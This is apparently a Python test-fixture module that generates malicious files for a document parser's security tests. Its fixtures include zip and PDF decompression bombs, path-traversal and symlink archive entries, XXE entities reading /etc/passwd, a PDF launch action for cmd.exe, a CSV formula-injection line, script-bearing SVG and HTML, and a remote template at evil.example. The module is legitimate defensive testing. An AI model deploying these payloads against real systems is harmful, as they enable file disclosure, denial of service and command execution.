"""Hostile files, built when a test asks for them: each with a name and the states it may end in.

`None` as a state: the file is read. States of files within count, too.
"""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from madang.domains.documents.content import Unread
from madang.domains.documents.tests import small_files as made

U = Unread


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    states: frozenset[Unread | None]
    file_name: str = "file"
    says: str = ""  # words that must be found somewhere in it


def files() -> Iterator[Hostile]:
    yield from (*plain(), *archives(), *documents(), *pdfs(), *pictures(), *texts())


def _of(
    name: str, build: Callable[[], bytes], *states: Unread | None, file_name: str = "file", says: str = ""
) -> Hostile:
    return Hostile(name, build, frozenset(states), file_name, says)


def plain() -> Iterator[Hostile]:
    yield _of("no bytes", bytes, U.EMPTY)
    yield _of("one byte", lambda: b"x", None)
    yield _of("one NUL", lambda: b"\0", U.UNKNOWN_FORMAT)
    yield _of("noise", lambda: random.Random(1).randbytes(1 << 20), U.UNKNOWN_FORMAT)
    yield _of("name of 256 bytes", lambda: b"x", None, file_name="가" * 85 + ".", says="가" * 85)
    yield _of("name that leads out", lambda: b"x", None, file_name="../../etc/x", says="../../etc/x")
    yield _of("name with NUL and line end", lambda: b"x", None, file_name="a\0b\r\nc.txt", says="ab")
    yield _of("name turned around", lambda: b"x", None, file_name="a\u202efdp.exe", says="\u202efdp")
    yield _of("half a surrogate in the name", lambda: b"x", None, file_name="a\ud800b", says="ab")
    yield _of("program called .pdf", lambda: b"MZ" + bytes(2000), U.UNSUPPORTED, file_name="a.pdf")
    yield _of("PDF called .txt", made.pdf, None, file_name="a.txt", says="CoveredText")
    yield _of("gzip bomb", lambda: gzip.compress(bytes(64 << 20)), U.UNSUPPORTED)
    yield _of("font", lambda: b"\0\1\0\0\0" + bytes(500), U.UNSUPPORTED)
    yield _of(
        "test virus",
        lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        None,
        says="EICAR",
    )


def archives() -> Iterator[Hostile]:
    yield _of("zip whose entries overlap", overlapping, U.OVERLAPPING)
    yield _of("zip of zips of zips", nested_zips, U.TOO_DEEP)
    yield _of("zip 1:1000", lambda: made.zipped({"a": bytes(100 << 20)}), U.EXPANDS)
    yield _of(
        "zip of many large entries", lambda: repeated(made.zipped({"a": bytes(15 << 20)}), 36), U.EXPANDS
    )
    yield _of("zip with 10,001 entries", lambda: crowded(10_001), U.TOO_MANY_PARTS)
    yield _of("zip with 1,500 files", lambda: crowded(1_500), U.TOO_MANY_PARTS)
    yield _of("zip with a link", linked, U.UNSAFE_NAMES)
    yield _of(
        "zip with an absolute path", lambda: made.zipped({"/etc/passwd": "root"}), U.UNSAFE_NAMES, says="root"
    )
    yield _of(
        "zip that leads out", lambda: made.zipped({"../../x": "outside"}), U.UNSAFE_NAMES, says="outside"
    )
    yield _of(
        "zip with a Windows path", lambda: made.zipped({"C:\\x": "drive"}), U.UNSAFE_NAMES, says="drive"
    )
    yield _of("zip with doubled names", doubled, U.UNSAFE_NAMES, says="second")
    yield _of("zip that lies about a size", lambda: lying(made.zipped({"a.txt": "long enough"})), U.DAMAGED)
    yield _of("zip with a password", locked, U.ENCRYPTED)
    yield _of("zip without end", lambda: made.zipped({"a.txt": "x" * 500})[:60], U.DAMAGED)
    yield _of("zip in bzip2", lambda: other_method(zipfile.ZIP_BZIP2), U.UNSUPPORTED)
    yield _of("empty zip", lambda: made.zipped({}), U.EMPTY)


def documents() -> Iterator[Hostile]:
    laughs = "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(
        f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
    )
    outside = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
    yield _of("billion laughs", lambda: part(laughs + "]><w:document>&j;</w:document>"), U.DAMAGED)
    yield _of("entity of a file", lambda: part(outside), U.DAMAGED)
    yield _of("elements 100,000 deep", lambda: part("<w>" * 100_000 + "</w>" * 100_000), U.DAMAGED)
    yield _of(
        "document of 400,000 paragraphs",
        lambda: part(f"<d><w:body>{long_body()}</w:body></d>"),
        U.TOO_LARGE,
        U.EXPANDS,
    )
    yield _of("sheet of 320,000 cells", giant_sheet, U.TOO_MANY_PARTS)
    yield _of("sheet with a cell far away", lambda: sheet('<c r="XFD1048576"><v>7</v></c>'), None)
    yield _of("sheet repeated a million times", made.ods, None)
    yield _of("document with macros", lambda: made.docx(**{"word/vbaProject.bin": b"no OLE"}), None)
    yield _of(
        "program in a document",
        lambda: made.docx(**{"word/embeddings/a.bin": b"MZ" + bytes(500)}),
        U.UNSUPPORTED,
    )
    yield _of("document with outer template", templated, None, says="evil.example")
    yield _of("OLE header only", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), U.DAMAGED)
    yield _of("OLE whose sectors run in a circle", circular_ole, U.DAMAGED, U.UNSUPPORTED)
    yield _of("HWPX without sections", lambda: made.zipped({"mimetype": "application/hwp+zip"}), U.DAMAGED)
    yield _of("HWPX with script", made.hwpx, None, says="스크립트글")
    yield _of("RTF 2,000 groups deep", lambda: b"{\\rtf1" + b"{" * 2_000, U.TOO_DEEP)


def pdfs() -> Iterator[Hostile]:
    yield _of("PDF with script, file, note", made.pdf, None, says="스크립트글")
    yield _of("PDF that starts a program", launching, None, says="cmd.exe")
    yield _of("PDF with a password", locked_pdf, U.ENCRYPTED)
    yield _of("PDF of 6,000 pages", many_pages, U.TOO_MANY_PARTS)
    yield _of("PDF whose pages run in a circle", circular_pages, U.DAMAGED, None, U.CRASHED, U.PICTURE)
    yield _of(
        "PDF with huge coordinates", lambda: made.pdf(b"1e30 0 0 1e30 1e35 1e35 cm 0 0 1e38 1e38 re f"), None
    )
    yield _of("PDF with a stream of 1:1000", bomb_pdf, U.EXPANDS, U.TOO_LARGE, U.OUT_OF_MEMORY, None)
    yield _of("PDF cut in half", lambda: made.pdf()[:700], U.DAMAGED)
    yield _of("PDF head only", lambda: b"%PDF-1.7\n", U.DAMAGED)
    yield _of(
        "PDF and web page at once", lambda: b"<script>evil()</script>\n" + made.pdf(), None, says="evil()"
    )
    yield _of(
        "PDF and zip at once",
        lambda: made.pdf() + made.zipped({"a.txt": "inside words"}),
        None,
        says="inside words",
    )


def pictures() -> Iterator[Hostile]:
    yield _of("PNG of 14,000 × 14,000", lambda: flat("PNG", 14_000, "1"), U.EXPANDS)
    yield _of("PNG of 12,000 × 12,000", lambda: flat("PNG", 12_000, "1"), U.EXPANDS)
    yield _of("GIF of 1,000 frames", lambda: frames("GIF", 1_000), U.TOO_MANY_PARTS)
    yield _of("TIFF with 2,000 directories", lambda: tiff(2_000), U.TOO_MANY_PARTS)
    yield _of("TIFF that runs in a circle", circular_tiff, U.DAMAGED, U.PICTURE, U.TOO_MANY_PARTS)
    yield _of("PNG with a bomb in its text", text_bomb, U.DAMAGED, U.EXPANDS, U.PICTURE)
    yield _of(
        "GIF and script at once", lambda: b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)", U.DAMAGED, U.PICTURE
    )
    yield _of("photograph with a place", located, U.PICTURE, says="37.0")
    yield _of("SVG with script and file", svg, U.PICTURE, says="alert(1)")
    yield _of(
        "SVG with an entity",
        lambda: b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        U.DAMAGED,
    )


def texts() -> Iterator[Hostile]:
    yield _of(
        "web page called .txt",
        lambda: b"<html><script>alert(1)</script></html>",
        None,
        file_name="a.txt",
        says="alert(1)",
    )
    yield _of(
        "web page of 50,000 open tags",
        lambda: b"<html>" + b"<div>" * 50_000 + b"deep",
        None,
        U.TOO_DEEP,
        U.DAMAGED,
    )
    yield _of(
        "CSV that runs a program",
        lambda: b"a,b,c\n=cmd|' /C calc'!A0,1,2\n3,4,5\n",
        None,
        says="=cmd|",
    )
    yield _of(
        "CSV of a million columns",
        lambda: (b"1," * 1_000_000 + b"\n") * 2,
        U.TOO_MANY_PARTS,
        file_name="a.csv",
    )
    yield _of("text of 12 MB", lambda: "가나다라마바사\n".encode() * 600_000, U.TOO_LARGE)
    yield _of("mail of 1,100 parts", crowded_mail, U.TOO_MANY_PARTS)
    yield _of("mail within mail", nested_mail, U.TOO_DEEP)


def overlapping() -> bytes:
    """All entries share one body: few bytes claim to be gigabytes (David Fifield, 2019)."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(bytes(10 << 20)) + body.flush()
    sums = struct.pack("<III", zlib.crc32(bytes(10 << 20)), len(packed), 10 << 20)
    local = b"PK\3\4" + struct.pack("<5H", 20, 0, 8, 0, 0) + sums + struct.pack("<HH", 1, 0) + b"a" + packed
    entry = (
        b"PK\1\2"
        + struct.pack("<6H", 20, 20, 0, 8, 0, 0)
        + sums
        + struct.pack("<5HII", 1, 0, 0, 0, 0, 0, 0)
        + b"a"
    )
    return (
        local + entry * 20 + b"PK\5\6" + struct.pack("<4HIIH", 0, 0, 20, 20, len(entry) * 20, len(local), 0)
    )


def nested_zips() -> bytes:
    inner = made.zipped({"0": bytes(1 << 20)})
    for _ in range(8):
        inner = made.zipped({"a.zip": inner, "b.zip": inner})
    return inner


def crowded(count: int) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for number in range(count):
            archive.writestr(zipfile.ZipInfo(str(number)), b"x")
    return held.getvalue()


def repeated(content: bytes, times: int) -> bytes:
    """The one entry of an archive, as often, each with bytes of its own."""
    start = content.rindex(b"PK\1\2")
    local, entry = content[:start], content[start : content.rindex(b"PK\5\6")]
    list_ = b"".join(entry[:42] + struct.pack("<I", n * len(local)) + entry[46:] for n in range(times))
    end = struct.pack("<4HIIH", 0, 0, times, times, len(list_), len(local) * times, 0)
    return local * times + list_ + b"PK\5\6" + end


def linked() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return held.getvalue()


def doubled() -> bytes:
    return made.zipped({"a.txt": "first words", "b.txt": "second words"}).replace(b"b.txt", b"a.txt")


def lying(content: bytes) -> bytes:
    """The list says fewer bytes than there are."""
    at = content.rindex(b"PK\1\2") + 24
    return content[:at] + struct.pack("<I", 3) + content[at + 4 :]


def locked() -> bytes:
    content = bytearray(made.zipped({"a.txt": "secret"}))
    content[6] |= 1
    content[content.rindex(b"PK\1\2") + 8] |= 1
    return bytes(content)


def other_method(method: int) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        archive.writestr("a", bytes(1000))
    return held.getvalue()


def part(document: str) -> bytes:
    return made.zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": document.replace("w:", "")})


def long_body() -> str:
    return "<w:p><w:r><w:t>가나다라마바사아자차</w:t></w:r></w:p>" * 400_000


def sheet(cells: str) -> bytes:
    return made.zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": '<workbook xmlns:r="urn:r"><sheets><sheet name="a" r:id="s"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": made.relations(("s", "worksheet", "worksheets/sheet1.xml")),
            "xl/worksheets/sheet1.xml": f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>",
        }
    )


def giant_sheet() -> bytes:
    row = "<row>" + "".join("<c><v>7</v></c>" for _ in range(100)) + "</row>"
    return sheet("</row>" + row * 3_200 + "<row>")


def templated() -> bytes:
    outer = made.relations(("t", "attachedTemplate", "http://evil.example/t.dotm"))
    return made.docx(**{"word/_rels/settings.xml.rels": outer})


def circular_ole() -> bytes:
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<5H", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<9I", head, 40, 0, 1, 0, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", head, 76, 0)
    fat = struct.pack("<128I", *range(128))
    return bytes(head) + fat + bytes(1024)


def launching() -> bytes:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    return made.pdf(AA=pikepdf.Dictionary(WC=action))


def locked_pdf() -> bytes:
    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(made.pdf())) as document:
        document.save(held, encryption=pikepdf.Encryption(owner="a", user="b"))
    return held.getvalue()


def many_pages() -> bytes:
    kids = b"3 0 R " * 6_000
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 6000/Kids["
        + kids
        + b"]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF"
    )


def circular_pages() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]"
        b"/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def bomb_pdf() -> bytes:
    return made.pdf(b"BT /F1 12 Tf (Words) Tj ET" + b" " * (40 << 20))


def flat(kind: str, size: int, mode: str) -> bytes:
    held = io.BytesIO()
    Image.new(mode, (size, size)).save(held, kind)
    return held.getvalue()


def frames(kind: str, count: int) -> bytes:
    held = io.BytesIO()
    pictures_ = [Image.new("L", (2, 2), n % 255) for n in range(count)]
    pictures_[0].save(held, kind, save_all=True, append_images=pictures_[1:])
    return held.getvalue()


def tiff(count: int) -> bytes:
    """As many directories of a picture of one dot."""
    entries = (
        (256, 3, 1),
        (257, 3, 1),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (278, 3, 1),
        (279, 4, 1),
    )
    out = b"II*\0" + struct.pack("<I", 16) + b"\x80" + bytes(7)
    for number in range(count):
        following = 0 if number == count - 1 else 16 + (number + 1) * (6 + 12 * len(entries))
        body = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
        out += struct.pack("<H", len(entries)) + body + struct.pack("<I", following)
    return out


def circular_tiff() -> bytes:
    content = bytearray(tiff(2))
    struct.pack_into("<I", content, len(content) - 4, 16)
    return bytes(content)


def text_bomb() -> bytes:
    chunk = b"Comment\0\0" + zlib.compress(bytes(80 << 20))
    piece = struct.pack(">I", len(chunk)) + b"zTXt" + chunk + struct.pack(">I", zlib.crc32(b"zTXt" + chunk))
    content = flat("PNG", 4, "L")
    at = content.index(b"IDAT") - 4
    return content[:at] + piece + content[at:]


def located() -> bytes:
    held = io.BytesIO()
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (37.0, 33.0, 58.0)
    exif[0x8825] = exif.get_ifd(0x8825)
    Image.new("L", (9, 9)).save(held, "JPEG", exif=exif)
    return held.getvalue()


def svg() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
        b'<image xlink:href="file:///etc/passwd"/><foreignObject><p>x</p></foreignObject><text>t</text></svg>'
    )


def crowded_mail() -> bytes:
    head = b"From: a@example.kr\nTo: b@example.kr\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    return head + b"--x\nContent-Type: text/plain\n\nwords\n" * 1_100 + b"--x--\n"


def nested_mail() -> bytes:
    content = b"From: a@example.kr\nTo: b@example.kr\n\ninnermost\n"
    for _ in range(8):
        head = b"From: a@example.kr\nTo: b@example.kr\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
        content = head + content
    return content
